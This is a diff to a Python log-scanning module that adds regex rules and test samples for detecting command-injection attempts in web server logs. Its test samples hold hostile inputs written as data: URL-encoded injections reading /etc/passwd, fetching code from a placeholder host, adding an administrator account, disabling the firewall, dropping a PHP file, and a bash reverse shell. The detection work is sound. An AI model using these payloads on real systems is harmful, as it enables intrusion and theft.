@@ -26,7 +26,8 @@ _COMMAND_WORDS = (
 # After a lone "&" (also how a browser joins parameters) only words that are no English.
 _STRONG_COMMANDS = (
     r"(?:id|uname|whoami|ping|nslookup|wget|curl|netstat|ipconfig|ifconfig|systeminfo"
-    r"|powershell|tasklist|cmd(?:\.exe)?|dir\s+[a-z]:|net\s+user)"
+    r"|powershell|tasklist|cmd(?:\.exe)?|dir\s+[a-z]:|net\s+(?:user|view|localgroup|share)"
+    r"|netsh|sleep\s+\d{1,3}\b|type\s+(?:%[a-z_]+%|[a-z]:)|(?:/(?:usr/)?s?bin/)\w)"
 )
 # What may follow a command word: the end of the value, white space, a separator, a quote.
 _END = r"\s;|&`)<>'\"$"
@@ -64,12 +65,15 @@ class CommandShellChain(PatternRule):
     # Also the shell's own obfuscations: ${IFS} for a space, quotes splitting a command name
     # (c''at), and ?-globs standing for one (/???/c?t).
     pattern = re.compile(
-        _command(r"(?:[;|`\n]|&&|\$\()[\s+]*(?:/(?:usr/)?s?bin/)?", "+" + _END, ("frag", "frag1"))
+        _command(r"(?:[;|`\n]|&&|\$\()[\s+]*(?:/?(?:usr/)?s?bin/)?", "+" + _END, ("frag", "frag1"))
         + rf"|(?P<frag2>&\s+{_STRONG_COMMANDS})(?:$|[{_END}])"
         r"|(?:`|\$\()\s*(?:true|false)\s*[`)]"
         rf"|(?P<frag3>=\s*(?:/(?:usr/)?s?bin/)?{_STRONG_COMMANDS}\s*[;|]+\s*)(?:$|&)"
         r"|\$\{?ifs\b|(?:[;|`\n]|&&|\$\()\s*[a-z]{1,10}(?:''|\"\")[a-z]"
         r"|/\?{3}/[\w?]{0,10}\?"
+        r"|(?P<frag4>;\s*\$[a-z_]\w*)\s*(?:$|[;|&`])"
+        rf"|\{{(?:{_STRONG_COMMANDS}|cat|wget|curl|nc|ncat|bash|sh|ls|chmod|perl|python),"
+        r"(?:/|[a-z]{2,8}://|-|\+x)"
     )
     gate = ";|`\n$&"
     must_match = (
@@ -87,6 +91,12 @@ class CommandShellChain(PatternRule):
         AccessSample(target="/diag?flag=%60false%60"),
         AccessSample(target="/diag?ip=id%3B"),
         AccessSample(target="/diag?ip=whoami%7C&submit=go"),
+        AccessSample(target="/diag?ip=x%26%20sleep%2010"),
+        AccessSample(target="/diag?ip=x%26%20net%20view"),
+        AccessSample(target="/diag?ip=%3BCMD%3D%24%27id%27%3B%24CMD"),
+        AccessSample(target="/diag?ip=x%7Cusr/bin/id"),
+        AccessSample(target="/diag?ip=x;%7Bcat,/etc/passwd%7D"),
+        AccessSample(target="/diag?ip=%7Bwget,http://198.51.100.9/x%7D"),
     )
     must_not_match = (
         AccessSample(target="/shop;jsessionid=0AB12CD34?cat=shoes"),
@@ -96,6 +106,12 @@ class CommandShellChain(PatternRule):
         AccessSample(target="/search?q=rock+%26+roll;+dir+straits"),
         AccessSample(target="/api/items?fields=id|name|price"),
         AccessSample(target="/api/items?sort=id;desc"),
+        AccessSample(target="/search?q=rock+%26+sleep+tight"),
+        AccessSample(target="/search?q=a+%7C+b+%7C+c"),
+        AccessSample(target="/search?q=price+%7C+%24100"),
+        AccessSample(target="/shop;jsessionid=1?x=%24total"),
+        AccessSample(target="/api?fields={cat,dog}"),
+        AccessSample(target="/api?fields={id,name,ls,price}"),
     )
 
 
@@ -117,6 +133,8 @@ class CommandDownloadExec(PatternRule):
         r"|\bcmd(?:\.exe)?\s*\??\s*/[ck]\b"
         r"|\bpowershell(?:\.exe)?\s+-(?:e|enc|encodedcommand|nop|w|c|command)\b"
         r"|\bbase64\s+-d\b|\b(?:python[23]?|perl|ruby|sh|bash)\s+-[ce]\s"
+        r"|\b(?:echo|printf?)\s+['\"][^\n]*['\"]\s*>>?\s*[\w./-]+"
+        r"\.(?:php\d?|phtml|aspx?|jspx?|cgi|pl|sh)\b"
     )
     words = frozenset(
         {
@@ -135,11 +153,15 @@ class CommandDownloadExec(PatternRule):
             "'bash -i >& /dev/tcp/198.51.100.9/4444 0>&1'",
         ),
         ErrorSample(message="AH01215: sh: 1: wget -q -O- http://198.51.100.9/m.sh: not found"),
+        AccessSample(
+            target="/p?x=%26%20echo%20%22%3C%3Fphp%20phpinfo();%20%3F%3E%22%20%3E%20x.php"
+        ),
     )
     must_not_match = (
         AccessSample(target="/cgi-bin/status.cgi?show=uptime"),
         AccessSample(target="/downloads/curl-8.5.0.tar.gz", user_agent="curl/8.5.0"),
         AccessSample(target="/docs/commands?name=chmod"),
+        AccessSample(target="/search?q=%22a%22+%3E+b.php"),
     )
 
 
@@ -164,7 +186,9 @@ class CommandArgv(PatternRule):
         r"|\bdir[\s+]+(?:/[a-z][\s+]+)*[a-z]:(?:[/\s+]|$)|\bnetstat[\s+]+-[a-z]{1,4}\b"
         r"|\bls[\s+]+-[a-z]{0,3}l[a-z]{0,3}\b"
         r"|\b(?:cat|tac|nl|head|tail|more|less|type)[\s+]+(?:/(?:etc|proc|root|home|var|tmp|dev)/"
-        r"|[a-z]:/)|(?P<frag>(?:^|=)\s*sleep[\s+]+\d{1,3}(?:\.\d+)?\s*)(?:\n?$|[&;|])"
+        r"|[a-z]:/|%[a-z_]+%/)|(?P<frag>(?:^|=)\s*sleep[\s+]+\d{1,3}(?:\.\d+)?\s*)(?:\n?$|[&;|])"
+        r"|\bnet(?:\.exe)?[\s+]+(?:localgroup|user[\s+]+\S+[\s+]+\S+[\s+]*/add)\b"
+        r"|\bnetsh(?:\.exe)?[\s+]+(?:firewall|advfirewall|interface|wlan|winhttp)\b"
         r"|\bnslookup[\s+]+(?:-\S+[\s+]+)*[\w-]+(?:\.[\w-]+)+"
         r"|\btimeout(?:\.exe)?[\s+]+/t[\s+]*\d|"
         + _command(
@@ -172,7 +196,7 @@ class CommandArgv(PatternRule):
         )
         + "|"
         + _command(
-            r"\b(?:system|exec|shell_exec|passthru|popen|proc_open)\s*\(\s*['\"`]\s*"
+            r"\b(?:system|exec|shell_exec|passthru|popen|proc_open|eval)\s*\(\s*['\"`]\s*"
             r"(?:/(?:usr/)?s?bin/)?",
             _END,
             ("frag3", "frag4"),
@@ -198,6 +222,9 @@ class CommandArgv(PatternRule):
         AccessSample(target="/diag?host=sleep%2010&go=1"),
         AccessSample(target="/diag?host=nslookup%20abc123.oast.example"),
         AccessSample(target="/diag?host=x%7Ctimeout%20/T%2015"),
+        AccessSample(target="/diag?x=net%20localgroup%20Administrators%20hacker%20%2FADD"),
+        AccessSample(target="/diag?x=netsh%20firewall%20set%20opmode%20disable"),
+        AccessSample(target="/diag?x=eval(%27whoami%27)"),
     )
     must_not_match = (
         AccessSample(target="/search?q=ping+pong+table"),
@@ -209,6 +236,8 @@ class CommandArgv(PatternRule):
         AccessSample(target="/search?q=sleep+5+hours+a+night"),
         AccessSample(target="/search?q=nslookup+command+examples"),
         AccessSample(target="/search?q=type+a+letter"),
+        AccessSample(target="/search?q=net+user+guide"),
+        AccessSample(target="/search?q=eval(x)+in+javascript"),
     )
 
 
@@ -241,6 +270,9 @@ class CommandServerSideInclude(PatternRule):
 class CommandQuotedName(PatternRule):
     """A whole parameter value that is a quoted harmless command: ``'uname'``, ``'id'``, ``'true'``.
 
+    Also a quote and a command name that is no word (``' whoami``) and ``which`` asked about
+    a tool (``which curl``): probes for what the shell can run.
+
     Blind command-injection probes (commix, fuzzdb): the quotes show the sender expects a shell
     to evaluate the value, and the command only prints who or where the process is or sets an
     exit status, so the answer (or its timing) tells the prober the injection works. Bare
@@ -258,7 +290,10 @@ class CommandQuotedName(PatternRule):
     pattern = re.compile(
         r"(?P<frag>(?:^|[=&])(?:'(?:id|uname|whoami|hostname|pwd|ifconfig|ipconfig|systeminfo"
         r"|true|false)'"
-        r"|\"(?:uname|whoami|ifconfig|ipconfig|systeminfo)\"))(?:\n?$|&)"
+        r"|\"(?:uname|whoami|ifconfig|ipconfig|systeminfo)\""
+        r"|['\"`]\s*(?:whoami|uname|ifconfig|ipconfig|systeminfo)"
+        r"|which\s+(?:curl|wget|gcc|cc|perl|python[23]?|nc|ncat|netcat|socat|nmap|bash|php"
+        r"|ruby)))(?:\n?$|&)"
     )
     words = frozenset(
         {
@@ -273,6 +308,8 @@ class CommandQuotedName(PatternRule):
         AccessSample(target="/diag?flag=%27false%27"),
         AccessSample(target="/diag?x=1&flag='true'"),
         AccessSample(target="/diag?user=%22whoami%22"),
+        AccessSample(target="/diag?user=%27%20whoami"),
+        AccessSample(target="/diag?user=which%20curl"),
     )
     must_not_match = (
         AccessSample(target="/api/items?sort=id"),
@@ -281,4 +318,6 @@ class CommandQuotedName(PatternRule):
         AccessSample(target="/search?q=%22id%22"),
         AccessSample(target="/search?q=%27uname%27+manual+page"),
         AccessSample(target="/search?q=o%27id%27s"),
+        AccessSample(target="/search?q=which+curling+club"),
+        AccessSample(target="/search?q=which+perl+necklace+to+buy"),
     )
